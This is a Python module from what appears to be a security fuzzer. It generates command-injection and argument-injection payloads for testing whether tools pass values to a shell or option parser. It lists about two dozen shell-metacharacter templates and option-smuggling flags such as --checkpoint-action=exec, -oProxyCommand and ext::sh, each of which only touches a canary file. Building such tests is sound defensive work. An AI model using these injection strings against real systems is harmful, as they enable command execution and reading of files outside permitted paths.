"""Text that a shell, or a program's own option parser, takes for more than a value. Every command only
makes an empty file with this case's canary in a folder that is watched.
"""

from __future__ import annotations

from functools import lru_cache

from mcpfuzz.strategies.payload import Payload

__all__ = ["options", "shell"]

FILE = "{watch}/{canary:1}"
TOUCH = f"touch {FILE}"
UNSPACED = "touch${IFS}" + FILE

SHELL: tuple[tuple[str, str], ...] = (
    ("BASE$(COMMAND)'$(COMMAND)'", "a command substitution that runs inside of any quotes"),
    ("BASE; COMMAND", "a command after a semicolon"),
    ("BASE$(COMMAND)", "a command substitution"),
    ("BASE'; COMMAND; '", "out of single quotes, a command after a semicolon"),
    ('BASE"; COMMAND; "', "out of double quotes, a command after a semicolon"),
    ("BASE`COMMAND`", "a command in backquotes"),
    ("BASE | COMMAND", "a pipe"),
    ("BASE && COMMAND", "a command after &&"),
    ("BASE\nCOMMAND\n", "a command on a line of its own"),
    ("BASE & COMMAND", "a command in the background"),
    ("BASE || COMMAND", "a command after ||"),
    ("; COMMAND #", "a command and a comment"),
    ("$(COMMAND)", "a command substitution alone"),
    ("`COMMAND`", "backquotes alone"),
    ("BASE;UNSPACED", "a command without blanks"),
    ("BASE$(UNSPACED)", "a substitution without blanks"),
    ("BASE|UNSPACED", "a pipe without blanks"),
    ("BASE') ; COMMAND ; ('", "out of quotes and a bracket"),
    ('BASE") ; COMMAND ; ("', "out of double quotes and a bracket"),
    ("BASE'$(COMMAND)'", "a substitution between two quoted pieces"),
    ("COMMAND", "the command itself"),
    ("BASE\r\nCOMMAND\r\n", "a command behind CR LF"),
    ("BASE;{COMMAND,}", "a brace expansion"),
    ("BASE<(COMMAND)", "a process substitution"),
    ("'\"; COMMAND; \"'", "out of nested quotes"),
    ("$(COMMAND)BASE", "a substitution in front"),
    ("sh -c '" + TOUCH + "'", "a shell by name"),
    ("BASE; sh -c '" + TOUCH + "'", "a shell by name after a semicolon"),
)
OPTIONS: tuple[tuple[str, str], ...] = (
    (f"--output={FILE}", "an option that names an output file"),
    (f"-o{FILE}", "a short option that names an output file"),
    (f"BASE --output={FILE}", "an option behind a blank"),
    ("--files0-from={outside}/secret.txt", "an option that names an input file"),
    (f"--out={FILE}", "an option that names an output file"),
    (f"--output-file={FILE}", "an option that names an output file"),
    (f"-o {FILE}", "a short option and its value"),
    (f"BASE -o {FILE}", "a short option behind a blank"),
    (f"--log-file={FILE}", "an option that names a log"),
    (f"--upload-pack={TOUCH};", "an option that names a program"),
    (f"--exec={TOUCH}", "an option that names a program"),
    (f"--receive-pack={TOUCH};", "an option that names a program"),
    (f"-O{FILE}", "a short option that names an output file"),
    (f"--output-document={FILE}", "an option that names an output file"),
    (f"--file={FILE}", "an option that names a file"),
    (f"--output-directory={FILE}", "an option that names an output folder"),
    (f"--logfile={FILE}", "an option that names a log"),
    (f"--trace={FILE}", "an option that names a log"),
    (f"--to-command={TOUCH}", "an option that names a program"),
    (f"--checkpoint-action=exec={TOUCH}", "an option that names a program"),
    (f"--use-compress-program={TOUCH}", "an option that names a program"),
    (f"-oProxyCommand={TOUCH}", "an option that names a program"),
    (f"--config=core.pager={TOUCH}", "an option that sets a program"),
    (f"ext::sh -c touch% {FILE}", "a transport that names a program"),
)


@lru_cache(maxsize=4096)
def shell(base: str) -> tuple[Payload, ...]:
    """Payloads for a command line, most likely first.

    Args:
        base: the good value; stays in front, so that a check of its first words is passed.
    """
    made = []
    for template, words in SHELL:
        keep = UNSPACED if "UNSPACED" in template else TOUCH
        text = template.replace("UNSPACED", UNSPACED).replace("COMMAND", TOUCH).replace("BASE", base)
        made.append(Payload(text, words, (keep,), "command-injection"))
    return tuple({payload.text: payload for payload in made}.values())


def _no_option(option: str) -> str | None:
    """What shows a file without being obeyed: the same path behind a word that no program knows. Who reads it then
    reads any path."""
    name, sign, value = option.partition("=")
    return f"--{{canary:unknown}}{sign}{value}" if value.startswith("{outside}") else None


@lru_cache(maxsize=4096)
def options(base: str) -> tuple[Payload, ...]:
    """Payloads for a program's arguments, most likely first."""
    made = []
    for template, words in OPTIONS:
        option = template.removeprefix("BASE ")  # an option is a word of some program: not shortened
        made.append(Payload(template.replace("BASE", base), words, (option,), "argument-injection", _no_option(option)))
    return tuple({payload.text: payload for payload in made}.values())
